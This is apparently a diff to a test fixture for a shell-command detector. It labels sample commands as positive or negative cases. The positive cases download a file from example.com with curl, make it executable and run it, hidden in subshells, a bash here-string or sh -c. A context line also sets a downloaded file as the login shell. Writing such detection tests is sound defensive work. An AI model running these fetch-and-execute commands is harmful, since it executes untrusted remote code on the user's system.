@@ -533,3 +533,18 @@ curl -fsSL -o ~/.local/bin/t https://example.com/t
 chsh --shell="$HOME/.local/bin/t"
 #@ neg an installed shell given with --shell= in one word
 chsh --shell="$(command -v fish)"
+#@ pos a download and its run, each in a subshell of its own
+( exec curl -so /tmp/x https://example.com/x )
+( exec chmod +x /tmp/x )
+( /tmp/x )
+#@ pos a download in a child shell given constant code, run by the program
+bash <<< 'curl -so /tmp/x https://example.com/x'
+chmod +x /tmp/x
+/tmp/x
+#@ pos a download by the program, run by a child shell's constant code
+curl -fsSL https://example.com/t.sh -o /tmp/t.sh
+sh -c 'chmod +x "$1" && "$1" --go' _ /tmp/t.sh
+#@ neg subshells that change directory, or only build and test
+( cd build && make )
+( exec make -C build test )
+bash -c 'make -C build test'
